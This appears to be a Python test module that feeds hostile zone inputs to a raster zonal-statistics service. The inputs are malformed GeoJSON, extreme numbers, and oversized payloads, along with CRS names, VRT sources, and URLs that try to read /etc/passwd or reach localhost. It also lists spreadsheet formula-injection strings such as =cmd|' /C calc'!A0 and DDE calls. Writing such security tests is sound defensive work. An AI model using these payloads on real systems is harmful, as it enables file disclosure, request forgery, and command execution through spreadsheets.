"""Hostile zones, and names that a spreadsheet would run."""

import json
import math
from collections.abc import Callable
from functools import partial
from typing import Any

from support.hostile_jobs import Inputs, Job, failing, harmless, rejected
from support.hostile_server import Attacker, Trap
from support.rasters_made import box, collection, feature

RASTER = "waco-dem"
LEFT, BOTTOM = -97.46, 32.56
RING = [[LEFT, BOTTOM], [LEFT + 0.01, BOTTOM], [LEFT, BOTTOM + 0.01], [LEFT, BOTTOM]]


def inline(zones: Callable[[], Any]) -> Inputs:
    return lambda *_: {"raster": RASTER, "zones": zones()}


def zone(name: str, coordinates: Any, told: str, kind: str = "Polygon") -> Job:
    """A case of one zone, which is rejected with such a message."""
    return rejected(f"zone-{name}", inline(lambda: collection(feature(kind, coordinates))), told)


def crs(name: str, value: Any) -> Job:
    """A case of zones in such a CRS."""

    def zones() -> Any:
        return {**collection(feature("Polygon", [RING])), "crs": value}

    return rejected(f"crs-{name}", inline(zones), "'crs' does not name")


def named(text: str) -> dict[str, Any]:
    return {"type": "name", "properties": {"name": text}}


def fetched(name: str, content: Callable[[], bytes]) -> Inputs:
    """Zones by reference to the attacker's server, made before they are asked for."""

    def make(attacker: Attacker, _: Trap) -> dict[str, Any]:
        made = content()
        return {"raster": RASTER, "zones": {"href": attacker.serve(name, lambda: made)}}

    return make


def circle(vertices: int, digits: int = 7) -> list[list[float]]:
    """A ring within the raster."""
    angles = (2 * math.pi * number / vertices for number in range(vertices))
    ring = [
        [round(LEFT + 0.02 * math.cos(at), digits), round(BOTTOM + 0.02 * math.sin(at), digits)]
        for at in angles
    ]
    return [*ring, ring[0]]


def comb(teeth: int) -> bytes:
    """A polygon with two vertices for each tooth; in metres, which take the fewest digits."""
    lower = [f"[{column},{column % 2}]" for column in range(teeth)]
    upper = [f"[{column},9]" for column in range(teeth - 1, -1, -1)]
    features = text_of(f"[[{','.join([*lower, *upper, lower[0]])}]]")
    return features[:-1] + b',"crs":' + json.dumps(named("EPSG:32614")).encode() + b"}"


def star(vertices: int) -> list[list[float]]:
    """A ring whose edges all cross each other."""
    ring = circle(vertices)[:-1]
    half = len(ring) // 2
    mixed = [ring[(number * half) % len(ring)] for number in range(len(ring))]
    return [*mixed, mixed[0]]


def text_of(coordinates: str, kind: str = "Polygon") -> bytes:
    """A collection with these coordinates as they are."""
    return (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
        f'"geometry":{{"type":"{kind}","coordinates":{coordinates}}}}}]}}'
    ).encode()


def many(count: int) -> Any:
    one = feature("Polygon", [RING])
    return collection(*[one] * count)


def holes(count: int) -> list[Any]:
    """A square, and as many small holes in it."""
    outer = box(LEFT, BOTTOM, LEFT + 0.05, BOTTOM + 0.05)["geometry"]["coordinates"][0]
    side = math.isqrt(count)
    step = 0.05 / (side + 1)
    return [
        outer,
        *(
            box(
                *(LEFT + step * (column + 0.3), BOTTOM + step * (row + 0.3)),
                *(LEFT + step * (column + 0.6), BOTTOM + step * (row + 0.6)),
            )["geometry"]["coordinates"][0]
            for column in range(side)
            for row in range(side)
        ),
    ]


SHAPES = [
    zone("no-coordinates", [], "input 'zones'"),
    zone("empty-ring", [[]], "input 'zones'"),
    zone("empty-rings", [[]] * 50_000, "input 'zones'"),
    zone("one-point", [[[0, 0]]], "input 'zones'"),
    zone("two-points", [[[0, 0], [1, 1]]], "input 'zones'"),
    zone("same-points", [[[LEFT, BOTTOM]] * 5], "not valid"),
    zone("spike", [[[0, 0], [1, 1], [2, 2], [0, 0]]], "not valid"),
    zone("bow-tie", [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]], "not valid"),
    zone("hole-outside", [RING, [[x + 5, y] for x, y in RING]], "not valid"),
    zone("hole-is-the-whole", [RING, RING], "not valid"),
    zone("same-hole-twice", [holes(1)[0], *[holes(1)[1]] * 2], "not valid"),
    zone("overlapping-parts", [[RING], [RING]], "not valid", "MultiPolygon"),
    zone("star-of-a-thousand", [star(1001)], "not valid"),
    zone("nulls", [[[None, None]] * 4], "input 'zones'"),
    zone("objects", [[{"x": 0, "y": 0}] * 4], "input 'zones'"),
    zone("flat-numbers", [0, 0, 1, 1], "input 'zones'"),
    zone("one-number-each", [[[0], [1], [2], [0]]], "input 'zones'"),
    zone("mixed-dimensions", [[[0, 0], [1, 0, 5], [0, 1], [0, 0]]], ""),
    zone("thousand-dimensions", [[[0.0] * 1000] * 4], "input 'zones'"),
    zone("1e308", [[[1e308, 0], [1e308, 1], [-1e308, 1], [1e308, 0]]], "coordinates beyond"),
    zone("latitude-1e308", [[[0, 1e308], [1, 1e308], [1, -1e308], [0, 1e308]]], "latitudes beyond"),
    zone("latitude-91", [[[0, 91], [1, 91], [1, 92], [0, 91]]], "latitudes beyond"),
    zone("longitude-3601", [[[3601, 0], [3602, 0], [3602, 1], [3601, 0]]], "coordinates beyond"),
    zone("integers-of-300-digits", [[[10**300, 0], [0, 1], [1, 0], [10**300, 0]]], ""),
    zone("polygon-as-multipolygon", [RING], "input 'zones'", "MultiPolygon"),
    zone("multipolygon-as-polygon", [[RING]], "input 'zones'"),
    zone("points", [LEFT, BOTTOM], "Polygon", "Point"),
    zone("collection", [], "", "GeometryCollection"),
    zone("unknown-kind", [RING], "", "__class__"),
    *(
        rejected(f"text-{name}", fetched(f"{name}.json", partial(bytes, text)), told)
        for name, text, told in (
            ("nan", text_of("[[[NaN,0],[1,0],[0,1],[NaN,0]]]"), ""),
            ("infinity", text_of("[[[Infinity,0],[1,0],[0,1],[Infinity,0]]]"), ""),
            ("1e999", text_of("[[[1e999,0],[1,0],[0,1],[1e999,0]]]"), ""),
            ("deep", text_of("[" * 900 + "]" * 900), ""),
            ("too-deep", text_of("[" * 200_000 + "]" * 200_000), ""),
            ("not-json", b"<kml/>", ""),
            ("nothing", b"", ""),
            ("zip", b"PK\x03\x04" + bytes(500), ""),
            ("utf-16", text_of("[]").decode().encode("utf-16"), ""),
            (
                "vrt-of-ogr",
                b"<OGRVRTDataSource><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTDataSource>",
                "",
            ),
            ("null-features", b'{"type":"FeatureCollection","features":[null,1,"x",[],{}]}', ""),
            ("feature-alone", b'{"type":"Feature","geometry":null,"properties":null}', ""),
            ("topojson", b'{"type":"Topology","objects":{},"arcs":[]}', ""),
            (
                "duplicates",
                b'{"type":"FeatureCollection","type":"x","features":[],"features":1}',
                "",
            ),
        )
    ),
]

REFERENCE_SYSTEMS = [
    crs("of-a-file", named("/etc/passwd")),
    crs("of-a-pipeline", named("+proj=pipeline +step +proj=hgridshift +grids=/etc/passwd")),
    crs("of-a-grid-by-url", named("+proj=longlat +nadgrids=http://127.0.0.1/x +type=crs")),
    crs("init", named("+init=/etc/passwd:x")),
    crs("of-wkt", named('GEOGCRS["x",DATUM["x",ELLIPSOID["x",1,0]]]')),
    crs("of-json", named('{"type": "GeographicCRS"}')),
    crs("unknown-code", named("EPSG:999999999")),
    crs("huge-code", named("EPSG:" + "9" * 100_000)),
    crs("code-with-sql", named("EPSG:4326'--")),
    crs("vertical", named("EPSG:5773")),
    crs("geocentric", named("EPSG:4978")),
    crs("url-above", named("http://www.opengis.net/def/crs/../../../../etc/passwd")),
    crs("other-host", named("http://127.0.0.1/def/crs/EPSG/0/4326")),
    crs("urn-of-many-parts", named("urn:ogc:def:crs:" + "EPSG::4326," * 5000)),
    crs("compound", named("urn:ogc:def:crs,crs:EPSG::4326,crs:EPSG::99999")),
    crs("link", {"type": "link", "properties": {"href": "http://127.0.0.1/x", "type": "proj4"}}),
    crs("number", 4326),
    crs("list", [named("EPSG:4326")] * 1000),
    crs("no-name", {"type": "name", "properties": {"name": {"a": ["b"] * 1000}}}),
]


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def polygon(name: str, coordinates: Any, **members: Any) -> Job:
    """A case of one polygon that is computed."""
    return harmless(name, inline(lambda: collection(feature("Polygon", coordinates, **members))))


def bounds(name: str, *corners: float) -> Job:
    """A case of one rectangle that is computed."""
    return harmless(name, inline(lambda: collection(box(*corners))))


def properties(name: str, **values: Any) -> Job:
    """A case of a zone with such properties."""
    return polygon(name, [RING], properties=values)


IDS: list[Any] = [{"a": 1}, [1], True, 1e300, "x" * 100_000]
MEMBERS = {"bbox": [1e308] * 4, "links": [{"href": "file:///etc/passwd"}], "__class__": 1}
LARGE = [
    harmless("million-vertices", fetched("m.json", lambda: comb(500_000))),
    failing(
        "crossing-edges",
        fetched("s.json", lambda: text_of(json.dumps([star(20_001)]))),
        "not valid",
    ),
    rejected(
        "over-16-mib",
        fetched("b.json", lambda: text_of("[[" + "[0,0]," * 4_000_000 + "[0,0]]]")),
        "zones",
    ),
    harmless(
        "quarter-million-inline",
        inline(lambda: collection(feature("Polygon", [circle(250_000, 6)]))),
    ),
    harmless("ten-thousand-holes", inline(lambda: collection(feature("Polygon", holes(10_000))))),
    harmless("twenty-thousand-zones", inline(lambda: many(20_000))),
    properties("property-of-a-mebibyte", a="x" * (1 << 20)),
    properties("ten-thousand-properties", **{f"p{number}": number for number in range(10_000)}),
    properties("nested-properties", a=nested(50)),
    rejected(
        "properties-nested-too-deeply",
        inline(lambda: collection(feature("Polygon", [RING], properties={"a": nested(300)}))),
        "",
    ),
    properties("names-of-columns", mean="x", zone=1, id=2, __class__=3),
    harmless(
        "odd-ids", inline(lambda: collection(*(feature("Polygon", [RING], id=one) for one in IDS)))
    ),
    harmless(
        "other-members", inline(lambda: {**collection(feature("Polygon", [RING])), **MEMBERS})
    ),
    bounds("twice-round", -360, -1, 360, 1),
    bounds("twenty-times-round", -3600, -90, 3600, 90),
    polygon("backwards", [[[179, 0], [-179, 0], [-179, 1], [179, 1], [179, 0]]]),
    bounds("round-a-pole", -180, 89.9999, 180, 90),
    polygon("at-a-pole", [[[0, 90], [90, 89.999999], [180, 89.999999], [0, 90]]]),
    zone("smallest-doubles", [[[0, 0], [5e-324, 0], [0, 1e-300], [0, 0]]], "not valid"),
    polygon("numbers-as-text", [[["0", "0"], ["1", "0"], ["0", "1"], ["0", "0"]]]),
    polygon("booleans", [[[True, False], [True, True], [False, True], [True, False]]]),
    bounds("sliver", LEFT, BOTTOM, LEFT + 1e-13, BOTTOM + 0.05),
    polygon("heights-of-1e308", [[[x, y, 1e308] for x, y in RING]]),
]


FORMULAS = [
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://127.0.0.1/?x="&A1)',
        "+1+1",
        "-1+1",
        "@SUM(1)",
    ),
    *(
        '=IMPORTXML("http://127.0.0.1/", "//a")',
        "=WEBSERVICE(A1)",
        "=DDE(1;2;3)",
        "\t=1+1",
        "\r=1+1",
    ),
    *(
        "\n=1+1",
        "a;=1+1",
        "a|=1+1",
        "a\t=1+1",
        "a\r\n=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20x",
    ),
    *(
        "%0A-1+1|cmd",
        ' "=1+1',
        "'=1+1",
        "=\u202e1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+A1",
        "-A1",
        "=",
        "@",
    ),
]
"""Texts that spreadsheets run, as the value and as the name of a property."""
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""The first characters of what they run."""


def formulas(_: Attacker, __: Trap) -> dict[str, Any]:
    """Zones with these as the values, and one with these as the names, of properties."""
    values = [feature("Polygon", [RING], properties={"name": text}) for text in FORMULAS]
    names = feature("Polygon", [RING], properties=dict.fromkeys(FORMULAS, "x"))
    return {"raster": RASTER, "zones": collection(*values, names)}


TABLE = harmless("formulas", formulas)
CASES: list[Job] = [*SHAPES, *REFERENCE_SYSTEMS, *LARGE]
